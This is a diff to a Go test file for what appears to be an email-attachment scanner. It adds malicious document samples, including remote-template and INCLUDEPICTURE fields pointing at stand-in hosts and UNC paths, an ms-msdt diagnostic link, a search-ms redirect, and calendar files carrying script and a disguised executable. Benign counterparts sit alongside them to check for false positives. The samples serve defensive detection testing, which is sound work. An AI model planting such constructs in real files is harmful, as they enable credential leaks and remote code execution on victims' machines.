@@ -99,6 +99,19 @@ func dangerousDocuments(t testing.TB) []attached {
 		{"xa-3.docx", word("word/_rels/document.xml.rels", outside("oleObject", "mhtml:https://example.test/a!x-usc:https://example.test/a")), "remote-template"},
 		{"xa-4.docx", word("word/_rels/webSettings.xml.rels", outside("frame", "file://203.0.113.7/a.html")), "remote-template"},
 		{"xa-5.rtf", []byte(`{\rtf1\ansi{\*\template https://example.test/a.dotm}Nội dung}`), "remote-template"},
+		{"xa-6.docx", word("word/_rels/document.xml.rels", outside("image", `\\203.0.113.7\a.png`)), "remote-template"},
+		{"xa-7.docx", field(t, `INCLUDEPICTURE "\\\\203.0.113.7\\a.png" \d`), "remote-template"},
+		{"xa-8.docx", field(t, `INCLUDETEXT "https://example.test/a.docx"`), "remote-template"},
+		{"xa-9.rtf", []byte(`{\rtf1{\field{\*\fldinst INCLUDETEXT "https://example.test/a.rtf"}{\fldrslt x}}}`), "remote-template"},
+		{"xa-10.xlsx", sheet("customUI/customUI.xml", `<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="https://example.test/a.xlam!x"/>`), "remote-template"},
+		{"xa-11.xlsx", sheet("xl/connections.xml", `<connections><connection id="1" type="4" refreshOnLoad="1"><webPr url="https://example.test/a"/></connection></connections>`), "remote-template"},
+		{"xa-12.pdf", pdfWith(`/OpenAction <</S /GoToR /F (\\\\203.0.113.7\\a.pdf) /D [0 /Fit]>>`), "remote-template"},
+		{"xa-13.html", []byte(`<html><body><p>Hóa đơn<img src="file://203.0.113.7/a.png">`), "remote-template"},
+		{"xa-14.html", []byte(`<html><head><meta http-equiv=refresh content="0; url=search-ms:query=a&crumb=location:x">`), "remote-template"},
+		{"lenh-5.docx", word("word/_rels/document.xml.rels", outside("hyperlink", "ms-msdt:/id PCWDiagnostic")), "dde"},
+		{"lich-1.ics", []byte("BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH;FILENAME=xem.js;ENCODING=BASE64;VALUE=BINARY:dmFyIGE7\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"), "script"},
+		{"lich-2.ics", []byte("BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH;FILENAME=anh.jpg;ENCODING=BASE64;VALUE=BINARY:" + base64.StdEncoding.EncodeToString(windowsProgram()) +
+			"\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"), "disguised"},
 		{"goi-1.docx", word("word/embeddings/oleObject1.bin", compound(t, "package-script.bin")), "script"},
 		{"goi-2.docx", word("word/embeddings/oleObject1.bin", string(windowsProgram())), "executable"},
 		{"goi-3.xlsm", sheet("xl/vbaProject.bin", button, "xl/embeddings/oleObject1.bin", compound(t, "package-script.bin")), "script"},
@@ -148,6 +161,10 @@ func innocentAttachments(t testing.TB) []attached {
 	text("anh-vien-tham.img", "EHFA_HEADER_TAG\x00"+strings.Repeat("\x00", 60))
 	text("so-do.svg", `<svg xmlns="http://www.w3.org/2000/svg"><a href="https://example.test"><path d="M0 0"/></a><text>Sơ đồ</text></svg>`)
 	text("lich.ics", "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Họp\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
+	text("lich-anh.ics", "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH;FILENAME=anh.png;ENCODING=BASE64;VALUE=BINARY:"+base64.StdEncoding.EncodeToString([]byte(png))+"\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
+	text("muc-luc.pdf", string(pdfWith("/OpenAction <</S /GoToR /F (chuong-2.pdf) /D [0 /Fit]>>")))
+	text("bieu-mau.pdf", string(pdfWith("/OpenAction <</S /URI /URI (https://dichvucong.gov.vn/a)>>")))
+	text("trang-luu.html", `<html><body><img src="//cdn.example.test/a.png"><img src="file:///C:/anh/a.png"><a href="file://fs.monre.gov.vn/chung">Thư mục chung</a>`)
 	text("danh-ba.vcf", "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Nguyễn Văn An\r\nEND:VCARD\r\n")
 	text("thu.eml", "From: <a@example.com>\r\nTo: <b@example.com>\r\nSubject: x\r\nMessage-ID: <1@example.com>\r\n\r\nNoi dung\r\n")
 	text("so-lieu.csv", "ngay;gia tri\n24.11.2026;-5|x!\n=A1+B2;1\n")
@@ -171,15 +188,20 @@ func innocentAttachments(t testing.TB) []attached {
 	text("tin-tuc-2.html", `<html><head><script type="application/ld+json">{"@type":"EmailMessage"}</script></head><body><img src="data:image/png;base64,iVBORw0KGgo=">`)
 	text("bieu-do.html", string(scriptPage(strings.Repeat("function f(a,b){return a+b};", 5000)+`new Blob([atob(x)]);URL.createObjectURL(b);a.download="x"`)))
 	zips := map[string][]byte{
-		"ho-so.zip":          packedFiles(t, "Kế hoạch 2026.docx", string(clean["docx"]), "Số liệu v1.2.xlsx", string(clean["xlsx"]), "ảnh/anh.png", png),
-		"ho-so.2026.zip":     packedFiles(t, nfd("Tờ trình.pdf"), string(clean["pdf"]), "doc.txt", "x", "__MACOSX/._a.pdf", "x"),
-		"sach.epub":          packedFiles(t, "mimetype", "application/epub+zip", "META-INF/container.xml", "<container/>", "OEBPS/a.js", "var a;"),
-		"khoa.zip":           lockedZip(t, "Danh sách.xlsx"),
-		"lien-ket.docx":      office(t, "word/document.xml", "word/_rels/document.xml.rels", outside("hyperlink", "https://example.test/a.exe")),
-		"mau-trong-may.docx": office(t, "word/document.xml", "word/_rels/settings.xml.rels", outside("attachedTemplate", `file:///C:\Users\an\AppData\Roaming\Microsoft\Templates\Normal.dotm`)),
-		"goi-ghi-chu.docx":   office(t, "word/document.xml", "word/embeddings/oleObject1.bin", compound(t, "package-text.bin")),
-		"bang-lien-ket.xlsx": office(t, "xl/workbook.xml", "xl/externalLinks/_rels/externalLink1.xml.rels", outside("externalLinkPath", "file:///C:/so-lieu/2025.xlsx")),
-		"so-tay.one":         notebook(png, string(clean["pdf"])),
+		"ho-so.zip":           packedFiles(t, "Kế hoạch 2026.docx", string(clean["docx"]), "Số liệu v1.2.xlsx", string(clean["xlsx"]), "ảnh/anh.png", png),
+		"ho-so.2026.zip":      packedFiles(t, nfd("Tờ trình.pdf"), string(clean["pdf"]), "doc.txt", "x", "__MACOSX/._a.pdf", "x"),
+		"sach.epub":           packedFiles(t, "mimetype", "application/epub+zip", "META-INF/container.xml", "<container/>", "OEBPS/a.js", "var a;"),
+		"khoa.zip":            lockedZip(t, "Danh sách.xlsx"),
+		"lien-ket.docx":       office(t, "word/document.xml", "word/_rels/document.xml.rels", outside("hyperlink", "https://example.test/a.exe")),
+		"mau-trong-may.docx":  office(t, "word/document.xml", "word/_rels/settings.xml.rels", outside("attachedTemplate", `file:///C:\Users\an\AppData\Roaming\Microsoft\Templates\Normal.dotm`)),
+		"goi-ghi-chu.docx":    office(t, "word/document.xml", "word/embeddings/oleObject1.bin", compound(t, "package-text.bin")),
+		"bang-lien-ket.xlsx":  office(t, "xl/workbook.xml", "xl/externalLinks/_rels/externalLink1.xml.rels", outside("externalLinkPath", "file:///C:/so-lieu/2025.xlsx")),
+		"anh-trong-mang.docx": office(t, "word/document.xml", "word/_rels/document.xml.rels", outside("image", `\\may-chu\anh\a.png`)),
+		"anh-tren-mang.docx":  office(t, "word/document.xml", "word/_rels/document.xml.rels", outside("image", "https://example.test/logo.png")),
+		"nut-lenh.xlsx":       office(t, "xl/workbook.xml", "customUI/customUI.xml", `<customUI onLoad="NapRibbon" xmlns="http://schemas.microsoft.com/office/2006/01/customui"/>`),
+		"truy-van.xlsx": office(t, "xl/workbook.xml", "xl/connections.xml", `<connections><connection id="1" type="5" refreshOnLoad="1"><dbPr connection="Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$"/></connection>`+
+			`<connection id="2" type="4"><webPr url="https://example.test/ty-gia"/></connection></connections>`),
+		"so-tay.one": notebook(png, string(clean["pdf"])),
 	}
 	for name, file := range zips {
 		all = append(all, attached{name: name, file: file})
